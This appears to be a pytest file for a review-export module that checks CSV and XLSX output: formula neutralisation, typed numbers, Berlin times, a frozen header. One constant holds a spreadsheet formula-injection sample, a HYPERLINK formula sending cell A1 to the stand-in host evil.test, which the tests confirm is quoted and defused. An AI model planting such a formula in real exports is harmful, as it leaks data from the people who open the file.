"""Export cells on plain tables, without a database: formulas neutralised in CSV and XLSX,
numbers kept as numbers, times shown as Berlin wall-clock times, a header row that stays put."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from competition.selection.exports.queries import (
    Column,
    Kind,
    Table,
    berlin_wall_time,
    csv_text,
    neutralise,
    to_csv,
    to_xlsx,
)

HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for details")'


def table(*rows: tuple, about: tuple = ()) -> Table:  # type: ignore[type-arg]
    return Table(
        "Reviews",
        (
            Column("Comment", Kind.LONG_TEXT),
            Column("Score", Kind.SCORE),
            Column("Mean", Kind.NUMBER),
            Column("Confidence", Kind.INTEGER),
            Column("Submitted at", Kind.TIME),
            Column("Fundable", Kind.YES_NO),
        ),
        list(rows),
        about,
    )


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_quoted(start):
    assert neutralise(start + "1+2") == "'" + start + "1+2"


@pytest.mark.parametrize("text", ["", "Good work", "1 = 1", "e-mail", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def test_a_hyperlink_formula_in_a_comment_is_neutralised_in_csv_and_xlsx():
    when = dt.datetime(2025, 3, 1, 12, 0, tzinfo=dt.UTC)
    data = table((HYPERLINK, Decimal("4.5"), 3.25, 4, when, True))

    rows = read_csv(to_csv(data))
    assert rows[1][0] == "'" + HYPERLINK

    sheet = read_xlsx(to_xlsx(data)).active
    cell = sheet.cell(row=2, column=1)
    # Stored as a string, never as a formula (a formula cell would read back with type "f").
    assert cell.data_type == "s"
    assert cell.value == HYPERLINK
    assert cell.quotePrefix


def test_negative_numbers_stay_numbers_and_are_not_quoted():
    data = table(("fine", Decimal("-1.5"), -0.25, -2, None, False))

    assert read_csv(to_csv(data))[1][1:4] == ["-1.5", "-0.25", "-2"]
    sheet = read_xlsx(to_xlsx(data)).active
    assert [sheet.cell(row=2, column=j).value for j in (2, 3, 4)] == [-1.5, -0.25, -2]
    assert sheet.cell(row=2, column=3).data_type == "n"


def test_xlsx_keeps_numbers_dates_and_flags_typed_with_a_frozen_header():
    summer = dt.datetime(2025, 7, 1, 10, 30, tzinfo=dt.UTC)
    data = table(("text", Decimal("4.5"), 3.14159, 4, summer, True))

    sheet = read_xlsx(to_xlsx(data)).active
    assert sheet.title == "Reviews"
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == [c.header for c in data.columns]
    score, mean, confidence, submitted, fundable = (c.value for c in sheet[2][1:])
    assert isinstance(score, float) and score == 4.5
    assert isinstance(mean, float) and mean == 3.14159
    assert isinstance(confidence, int) and confidence == 4
    assert submitted == berlin_wall_time(summer)
    assert fundable is True
    assert sheet.column_dimensions["A"].width >= len("Comment")


def test_times_are_berlin_wall_clock_in_winter_and_summer():
    assert berlin_wall_time(dt.datetime(2025, 1, 10, 12, 0, tzinfo=dt.UTC)) == dt.datetime(
        2025, 1, 10, 13, 0
    )
    assert berlin_wall_time(dt.datetime(2025, 7, 10, 12, 0, tzinfo=dt.UTC)) == dt.datetime(
        2025, 7, 10, 14, 0
    )
    assert csv_text(dt.datetime(2025, 7, 10, 12, 0, tzinfo=dt.UTC)) == "2025-07-10 14:00:00"


def test_csv_is_one_clean_table():
    data = table(
        ("line one\nline two, with a comma", None, None, None, None, False),
        about=(("Method", "Raw means"),),
    )

    rows = read_csv(to_csv(data))

    assert rows[0] == [c.header for c in data.columns]
    assert rows[1] == ["line one\nline two, with a comma", "", "", "", "", "no"]
    assert len(rows) == 2  # "About" is for the XLSX only


def test_xlsx_about_sheet_lists_what_produced_the_ranking():
    computed = dt.datetime(2025, 2, 1, 9, 0, tzinfo=dt.UTC)
    data = table(about=(("Method", "Bias model"), ("Seed", 1234), ("Computed at", computed)))

    workbook = read_xlsx(to_xlsx(data))

    assert workbook.sheetnames == ["Reviews", "About"]
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(min_row=2, values_only=True)}
    assert about == {
        "Method": "Bias model",
        "Seed": 1234,
        "Computed at": berlin_wall_time(computed),
    }


def test_control_characters_that_xlsx_cannot_hold_are_dropped():
    data = table(("bell\x07 and\x0b tab", None, None, None, None, False))

    sheet = read_xlsx(to_xlsx(data)).active

    assert sheet.cell(row=2, column=1).value == "bell and tab"


def test_a_number_that_is_not_one_leaves_its_xlsx_cell_empty_and_the_file_whole():
    data = table(("text", Decimal("NaN"), float("inf"), 4, None, False))

    sheet = read_xlsx(to_xlsx(data)).active

    assert [c.value for c in sheet[2]] == ["text", None, None, 4, None, False]
